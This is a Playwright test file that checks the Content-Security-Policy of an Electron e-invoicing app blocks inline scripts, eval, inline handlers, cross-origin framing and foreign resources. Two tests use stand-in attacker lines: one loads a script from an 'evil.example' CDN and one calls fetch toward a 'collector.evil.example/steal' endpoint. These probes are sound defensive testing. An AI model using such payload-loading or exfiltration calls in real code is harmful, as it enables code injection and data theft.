// The Content-Security-Policy as Chromium enforces it on the real browser
// shell: the built renderer loads without a single violation, and inline
// scripts, eval, inline event handlers, scripts from another origin and
// framing by another page are all blocked.
import { expect, test, type Page } from '@playwright/test';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { CONTENT_SECURITY_POLICY } from '../../electron/core/app/csp.ts';
import { launchShell, type RunningShell } from './security-shell.ts';

let shell: RunningShell;
let parent: string;

test.beforeAll(async () => {
  parent = fs.mkdtempSync(path.join(os.tmpdir(), 'efactura-csp-'));
  shell = await launchShell(path.join(parent, 'data'));
});

test.afterAll(async () => {
  await shell.stop();
  fs.rmSync(parent, { recursive: true, force: true });
});

declare global {
  interface Window {
    cspViolations?: string[];
    inlineScriptRan?: boolean;
    inlineHandlerRan?: boolean;
  }
}

/** Opens the app with a listener that records every CSP violation. */
async function openApp(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.cspViolations?.push(
        `${event.violatedDirective} ${event.blockedURI}`,
      );
    });
  });
  await page.goto(shell.url);
  await page.getByRole('button', { name: 'Setări' }).waitFor();
}

const violations = (page: Page) =>
  page.evaluate(() => window.cspViolations ?? []);

test('page carries the strict CSP', async ({ page }) => {
  const response = await page.goto(shell.url);
  expect(response?.headers()['content-security-policy']).toBe(
    CONTENT_SECURITY_POLICY,
  );
});

test('renderer loads without violations', async ({ page }) => {
  await openApp(page);
  await page.getByRole('button', { name: 'Setări' }).click();
  await page.getByLabel('Apeluri ANAF pe minut').waitFor();
  expect(await violations(page)).toEqual([]);
});

test('built page has no inline script', async ({ request }) => {
  const html = await (await request.get(shell.origin)).text();
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
  expect(scripts.length).toBeGreaterThan(0);
  for (const [, attributes, body] of scripts) {
    expect(attributes).toMatch(/\bsrc=/);
    expect(body?.trim()).toBe('');
  }
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
});

test('inline script is blocked', async ({ page }) => {
  await openApp(page);
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.inlineScriptRan = true;';
    document.body.append(script);
    return window.inlineScriptRan === true;
  });
  expect(ran).toBe(false);
  await expect
    .poll(() => violations(page))
    .toContainEqual(expect.stringMatching(/^script-src/));
});

// Code that Playwright evaluates runs with CSP's eval check lifted (the
// DevTools protocol allows it by default), so each attempt runs later from a
// timer, as page code would.
async function laterInPage(page: Page, attempt: string): Promise<string> {
  return page.evaluate(
    (source) =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(
              String(
                source === 'eval'
                  ? window.eval('6 * 7')
                  : new Function('return 6 * 7')(),
              ),
            );
          } catch (error) {
            resolve(error instanceof Error ? error.name : String(error));
          }
        }, 0);
      }),
    attempt,
  );
}

test('eval is blocked', async ({ page }) => {
  await openApp(page);
  expect(await laterInPage(page, 'eval')).toBe('EvalError');
});

test('Function constructor is blocked', async ({ page }) => {
  await openApp(page);
  expect(await laterInPage(page, 'Function')).toBe('EvalError');
});

test('string timer is blocked', async ({ page }) => {
  await openApp(page);
  await page.evaluate(() => {
    // A string handler is compiled like eval when the timer fires.
    (window.setTimeout as (handler: string, timeout: number) => number)(
      'window.inlineScriptRan = true',
      0,
    );
  });
  await expect
    .poll(() => violations(page))
    .toContainEqual(expect.stringMatching(/^script-src.*eval/));
  expect(await page.evaluate(() => window.inlineScriptRan === true)).toBe(
    false,
  );
});

test('inline event handler is blocked', async ({ page }) => {
  await openApp(page);
  const ran = await page.evaluate(async () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.inlineHandlerRan = true');
    document.body.append(button);
    button.click();
    await new Promise((resolve) => setTimeout(resolve, 50));
    return window.inlineHandlerRan === true;
  });
  expect(ran).toBe(false);
});

test('foreign script is blocked', async ({ page }) => {
  await openApp(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://cdn.evil.example/payload.js';
    document.body.append(script);
  });
  await expect
    .poll(() => violations(page))
    .toContainEqual(expect.stringMatching(/^script-src.*cdn\.evil\.example/));
});

test('foreign connection is blocked', async ({ page }) => {
  await openApp(page);
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://collector.evil.example/steal');
      return 'sent';
    } catch (error) {
      return error instanceof Error ? error.name : String(error);
    }
  });
  expect(outcome).toBe('TypeError');
  await expect
    .poll(() => violations(page))
    .toContainEqual(expect.stringMatching(/^connect-src/));
});

test('other pages cannot frame the app', async ({ page }) => {
  const messages: string[] = [];
  page.on('console', (message) => messages.push(message.text()));
  await page.setContent(`<iframe src="${shell.url}"></iframe>`);
  await expect.poll(() => messages.join('\n')).toContain('frame-ancestors');
});
